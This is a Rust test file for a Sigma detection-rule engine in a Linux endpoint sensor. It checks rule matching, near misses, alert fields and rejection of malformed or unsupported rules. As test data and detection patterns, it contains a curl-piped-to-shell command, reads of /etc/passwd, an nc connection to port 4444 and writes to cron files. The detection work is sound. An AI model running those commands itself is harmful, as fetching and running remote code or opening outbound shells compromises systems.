use std::collections::HashMap;

use amoskys_sensors::event::{
    FileActivity, FileActivityKind, LineageEntry, ProcessActivityKind, ProcessInfo, ProcessRef,
    SocketActivityKind,
};
use amoskys_sensors::{Event, EventBody, ProcessActivity, SocketActivity, Transport};

use super::*;

fn exec(exe: &str, args: &[&str], parent: &str, uid: u32) -> Event {
    Event::new(
        7,
        "h",
        "ebpf",
        EventBody::ProcessActivity(ProcessActivity {
            activity: ProcessActivityKind::Launch,
            process: ProcessInfo {
                pid: 4242,
                ppid: 42,
                name: exe.rsplit('/').next().unwrap_or(exe).into(),
                exe: exe.into(),
                cmdline: args.iter().map(|a| (*a).to_owned()).collect(),
                uid,
                start_time_ns: 1,
                cwd: String::new(),
            },
            lineage: vec![LineageEntry {
                pid: 42,
                name: parent.rsplit('/').next().unwrap_or(parent).into(),
                exe: parent.into(),
            }],
        }),
    )
}

const CURL_PIPE: &str = r#"
title: Download piped to a shell
id: 0b0c5a3e-1111-4a4a-9a9a-000000000001
status: experimental
logsource:
    product: linux
    category: process_creation
detection:
    selection:
        Image|endswith:
            - '/curl'
            - '/wget'
        CommandLine|contains|all:
            - 'http'
            - '| sh'
    condition: selection
level: high
tags:
    - attack.execution
    - attack.t1059.004
"#;

const RECON: &str = r#"
title: Account discovery from a shell
id: 0b0c5a3e-1111-4a4a-9a9a-000000000002
logsource:
    product: linux
    category: process_creation
detection:
    selection_id:
        Image|endswith: '/id'
    selection_passwd:
        CommandLine|contains: '/etc/passwd'
    filter_root:
        User: root
    condition: 1 of selection* and not filter_root
level: medium
tags:
    - attack.discovery
    - attack.t1087.001
"#;

fn load(texts: &[&str]) -> SigmaRules {
    let texts: Vec<String> = texts.iter().map(|t| (*t).to_owned()).collect();
    let mut rules = SigmaRules::load(&texts).unwrap_or_else(|p| panic!("{p:?}"));
    rules.set_user_names(HashMap::from([(0, "root".into()), (1000, "alice".into())]));
    rules
}

fn fired(rules: &SigmaRules, e: &Event) -> Vec<String> {
    let mut out = Vec::new();
    rules.observe(e, &mut out);
    out.into_iter().map(|f| f.rule).collect()
}

#[test]
fn process_rules_match_and_near_misses_do_not() {
    let rules = load(&[CURL_PIPE, RECON]);
    assert_eq!(rules.len(), 2);
    let curl = "sigma:0b0c5a3e-1111-4a4a-9a9a-000000000001";
    let recon = "sigma:0b0c5a3e-1111-4a4a-9a9a-000000000002";
    let hit = exec(
        "/usr/bin/curl",
        &["curl", "http://x/i.sh", "| sh"],
        "/bin/bash",
        1000,
    );
    assert_eq!(fired(&rules, &hit), [curl]);
    // Case-insensitive, as Sigma strings are.
    let upper = exec(
        "/usr/bin/curl",
        &["curl", "HTTP://x", "| SH"],
        "/bin/bash",
        1000,
    );
    assert_eq!(fired(&rules, &upper), [curl]);
    // |all: one of the two values is not enough.
    let half = exec(
        "/usr/bin/curl",
        &["curl", "http://x/i.sh"],
        "/bin/bash",
        1000,
    );
    assert!(fired(&rules, &half).is_empty());
    // endswith: a path that merely contains curl.
    let near = exec(
        "/usr/bin/curlx",
        &["curl", "http://x", "| sh"],
        "/bin/bash",
        1000,
    );
    assert!(fired(&rules, &near).is_empty());

    // 1 of selection*: either selection; not filter_root: not for root.
    let id = exec("/usr/bin/id", &["id"], "/bin/bash", 1000);
    assert_eq!(fired(&rules, &id), [recon]);
    let cat = exec("/usr/bin/cat", &["cat", "/etc/passwd"], "/bin/bash", 1000);
    assert_eq!(fired(&rules, &cat), [recon]);
    let as_root = exec("/usr/bin/id", &["id"], "/bin/bash", 0);
    assert!(fired(&rules, &as_root).is_empty());
    let other = exec("/usr/bin/cat", &["cat", "/etc/hosts"], "/bin/bash", 1000);
    assert!(fired(&rules, &other).is_empty());
    // CurrentDirectory, when the sensor read it.
    let cwd = load(&[
        "title: T\nid: cwd-1\nlogsource: {category: process_creation}\ndetection:\n    sel:\n        CurrentDirectory|startswith: /tmp/\n    condition: sel\n",
    ]);
    let mut in_tmp = id.clone();
    if let EventBody::ProcessActivity(a) = &mut in_tmp.body {
        a.process.cwd = "/tmp/x".into();
    }
    assert_eq!(fired(&cwd, &in_tmp), ["sigma:cwd-1"]);
    assert!(fired(&cwd, &id).is_empty(), "no cwd, no match");
    // An exit is not a process creation.
    let mut gone = id.clone();
    if let EventBody::ProcessActivity(a) = &mut gone.body {
        a.activity = ProcessActivityKind::Terminate;
    }
    assert!(fired(&rules, &gone).is_empty());
}

#[test]
fn a_match_is_a_finding_with_the_rules_id_title_level_and_tags() {
    let rules = load(&[CURL_PIPE]);
    let mut out = Vec::new();
    let hit = exec(
        "/usr/bin/wget",
        &["wget", "http://x", "| sh"],
        "/bin/bash",
        1000,
    );
    rules.observe(&hit, &mut out);
    let f = out.pop().expect("a finding");
    assert_eq!(f.technique, "T1059.004");
    assert_eq!(f.severity, Severity::High);
    assert_eq!(f.category, Category::Execution);
    assert_eq!(
        f.subject,
        Subject::Process {
            pid: 4242,
            exe: "/usr/bin/wget".into()
        }
    );
    let ev: HashMap<&str, &str> = f
        .evidence
        .iter()
        .map(|(k, v)| (k.as_str(), v.as_str()))
        .collect();
    assert_eq!(ev["sigma_id"], "0b0c5a3e-1111-4a4a-9a9a-000000000001");
    assert_eq!(ev["title"], "Download piped to a shell");
    assert_eq!(ev["level"], "high");
    assert_eq!(ev["tags"], "attack.execution attack.t1059.004");
    assert_eq!(ev["ParentImage"], "/bin/bash");
    assert_eq!(ev["User"], "alice");
    assert!(!ev.contains_key("CommandLine"), "no command line in alerts");
}

#[test]
fn network_and_file_rules_use_their_own_fields() {
    let net = r#"
title: Outbound to a private range on 4444
id: net-1
logsource: {product: linux, category: network_connection}
detection:
    selection:
        Initiated: 'true'
        DestinationIp|cidr: 10.0.0.0/8
        DestinationPort: 4444
    condition: selection
level: critical
tags: [attack.command_and_control, attack.t1571]
"#;
    let file = r#"
title: Cron file written
id: file-1
logsource: {product: linux, category: file_event}
detection:
    selection:
        TargetFilename|startswith: '/etc/cron.d/'
    condition: selection
tags: [attack.persistence, attack.t1053.003]
"#;
    let rules = load(&[net, file]);
    let sock = |port: u16, activity| {
        Event::new(
            1,
            "h",
            "ebpf",
            EventBody::SocketActivity(SocketActivity {
                activity,
                transport: Transport::Tcp,
                local: "192.168.1.2:50000".parse().expect("addr"),
                remote: Some(format!("10.1.2.3:{port}").parse().expect("addr")),
                process: Some(ProcessRef {
                    pid: 9,
                    name: "nc".into(),
                    exe: "/usr/bin/nc".into(),
                    uid: 1000,
                }),
            }),
        )
    };
    assert_eq!(
        fired(&rules, &sock(4444, SocketActivityKind::Connect)),
        ["sigma:net-1"]
    );
    assert!(fired(&rules, &sock(4445, SocketActivityKind::Connect)).is_empty());
    // Accepted: the remote initiated it, the destination is local.
    assert!(fired(&rules, &sock(4444, SocketActivityKind::Accept)).is_empty());
    let open = |path: &str, flags: u32| {
        Event::new(
            1,
            "h",
            "ebpf",
            EventBody::FileActivity(FileActivity {
                activity: FileActivityKind::Open,
                path: path.into(),
                flags,
                process: ProcessRef {
                    pid: 9,
                    name: "sh".into(),
                    exe: "/bin/sh".into(),
                    uid: 0,
                },
            }),
        )
    };
    assert_eq!(
        fired(&rules, &open("/etc/cron.d/job", 0o101)),
        ["sigma:file-1"]
    );
    // Read-only opens are not file events.
    assert!(fired(&rules, &open("/etc/cron.d/job", 0)).is_empty());
    assert!(fired(&rules, &open("/etc/crontab", 0o101)).is_empty());
}

fn refused(text: &str) -> Vec<SigmaProblem> {
    SigmaRules::load(&[text.to_owned()]).expect_err("refused")
}

#[test]
fn rules_the_node_cannot_evaluate_are_refused_with_id_field_and_line() {
    let bad = r#"title: Needs what the node lacks
id: bad-1
logsource:
    product: linux
    category: process_creation
detection:
    selection:
        ParentCommandLine|contains: 'nginx'
        Image|expand: '%bins%'
        ProcessId|contains: '12'
    condition: selection
"#;
    let problems = refused(bad);
    let text: Vec<String> = problems.iter().map(ToString::to_string).collect();
    assert_eq!(problems.len(), 3, "{text:?}");
    assert!(problems.iter().all(|p| p.rule == "bad-1"));
    let find = |f: &str| {
        problems
            .iter()
            .find(|p| p.refusal.field.as_deref() == Some(f))
            .unwrap_or_else(|| panic!("{f} in {text:?}"))
    };
    assert_eq!(find("ParentCommandLine").refusal.line, Some(8));
    assert!(
        find("ParentCommandLine")
            .refusal
            .reason
            .contains("not its command line")
    );
    assert_eq!(find("Image|expand").refusal.line, Some(9));
    assert_eq!(find("ProcessId|contains").refusal.line, Some(10));
    assert!(
        text[0].starts_with("sigma[0]: rule bad-1: line "),
        "{}",
        text[0]
    );

    let windows = "title: W\nid: w-1\nlogsource:\n    product: windows\n    category: process_creation\ndetection:\n    sel:\n        Image|endswith: '\\cmd.exe'\n    condition: sel\n";
    let p = refused(windows);
    assert_eq!(p[0].refusal.field.as_deref(), Some("logsource.product"));
    assert_eq!(p[0].refusal.line, Some(4));

    let no_id = "title: N\nlogsource:\n    category: process_creation\ndetection:\n    sel:\n        Image: /bin/sh\n    condition: sel\n";
    let p = refused(no_id);
    assert_eq!(p[0].rule, "N");
    assert_eq!(p[0].refusal.field.as_deref(), Some("id"));

    let unknown_field = "title: U\nid: u-1\nlogsource:\n    category: process_creation\ndetection:\n    sel:\n        Imagee: /bin/sh\n    condition: sel\n";
    let p = refused(unknown_field);
    assert_eq!(p[0].refusal.line, Some(7));
    assert!(p[0].refusal.reason.contains("Image, CommandLine"), "{p:?}");
}

#[test]
fn parse_errors_name_the_line() {
    let modifier = "title: M\nid: m-1\nlogsource:\n    category: process_creation\ndetection:\n    sel:\n        Image|endswithh: /sh\n    condition: sel\n";
    let p = refused(modifier);
    assert_eq!(p[0].refusal.line, Some(7), "{p:?}");
    assert_eq!(p[0].rule, "m-1");
    let yaml = "title: Y\nid: y-1\nlogsource:\n    category: process_creation\ndetection:\n    sel: [a, b\n    condition: sel\n";
    let p = refused(yaml);
    assert!(p[0].refusal.line.is_some(), "{p:?}");
    let condition = "title: C\nid: c-1\nlogsource:\n    category: process_creation\ndetection:\n    sel:\n        Image: /bin/sh\n    condition: sel and nothing\n";
    let p = refused(condition);
    assert_eq!(p[0].refusal.line, Some(8), "{p:?}");
    // The same id twice.
    let twice = SigmaRules::load(&[CURL_PIPE.to_owned(), CURL_PIPE.to_owned()]).expect_err("dup");
    assert_eq!(twice[0].text, 1);
    assert_eq!(twice[0].refusal.field.as_deref(), Some("id"));
}

#[test]
fn the_policy_carries_rules_and_refuses_bad_ones() {
    let policy = crate::RulePolicy {
        sigma: vec![CURL_PIPE.to_owned()],
        ..Default::default()
    };
    assert!(policy.validate().is_empty());
    let mut engine = crate::RuleEngine::new(policy);
    let hit = exec(
        "/usr/bin/curl",
        &["curl", "http://x", "| sh"],
        "/bin/bash",
        1000,
    );
    assert!(
        engine
            .observe(&hit)
            .iter()
            .any(|f| f.rule.starts_with("sigma:"))
    );
    engine.set_policy(crate::RulePolicy::default());
    assert!(engine.observe(&hit).is_empty());
    let bad = crate::RulePolicy {
        sigma: vec!["title: x\n".into()],
        ..Default::default()
    };
    let problems = bad.validate();
    assert!(problems[0].starts_with("sigma[0]: "), "{problems:?}");
}

#[test]
fn every_mapped_field_is_documented() {
    let doc = include_str!("../../../../docs/RULES.md");
    for c in fields::Category::ALL {
        for f in c.fields() {
            let row = format!("| `{}` | `{}` |", c.name(), f.name);
            assert!(doc.contains(&row), "docs/RULES.md has no row {row}");
        }
    }
}

#[test]
fn passwd_gives_names_by_uid() {
    let users = parse_passwd(
        "root:x:0:0:root:/root:/bin/bash\nbad\nalice:x:1000:1000::/home/alice:/bin/sh\n",
    );
    assert_eq!(users.get(&0).map(String::as_str), Some("root"));
    assert_eq!(users.get(&1000).map(String::as_str), Some("alice"));
    assert_eq!(users.len(), 2);
}

#[test]
fn hostile_texts_are_refused_without_a_crash() {
    let deep_condition = format!(
        "title: D\nid: d-1\nlogsource: {{category: process_creation}}\ndetection:\n    sel:\n        Image: /bin/sh\n    condition: {}sel{}\n",
        "(".repeat(5_000),
        ")".repeat(5_000)
    );
    let deep_yaml = format!(
        "title: Y\nid: y-2\nlogsource: {{category: process_creation}}\ndetection:\n    sel: {}1{}\n    condition: sel\n",
        "[".repeat(5_000),
        "]".repeat(5_000)
    );
    for text in [
        deep_condition,
        deep_yaml,
        "\u{0}\u{fffd}:::".into(),
        String::new(),
    ] {
        let (rules, _) = SigmaRules::load_lenient(&[text]);
        assert!(rules.is_empty());
    }
    assert!(!refused("").is_empty(), "an empty text is refused");
    let global_only = refused("action: global\nlogsource: {category: process_creation}\n");
    assert_eq!(global_only[0].refusal.reason, "no rule in the text");
}
